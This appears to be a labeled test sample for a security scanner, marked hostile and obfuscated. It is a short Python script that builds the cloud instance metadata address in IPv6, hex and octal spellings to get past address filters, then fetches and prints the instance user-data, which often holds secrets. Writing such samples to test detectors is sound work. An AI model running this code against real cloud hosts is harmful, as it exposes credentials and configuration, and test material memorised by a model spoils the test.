# label: hostile
# expect: V303
# note: The metadata address in its IPv6 and hexadecimal spellings, tried in turn and put together at run time.
# obfuscated: yes
# allow: V301
import socket

parts = ["fd00", "ec2", "", "254"]
spellings = [":".join(parts), "::ffff:a9fe:a9fe", "0xA9FEA9FE", "0251.0376.0251.0376"]
for where in spellings:
    family = socket.AF_INET6 if ":" in where else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(0.5)
        try:
            s.connect((where, 80))
        except OSError:
            continue
        s.sendall(b"GET /latest/user-data HTTP/1.0\r\n\r\n")
        print(s.recv(65536))
        break
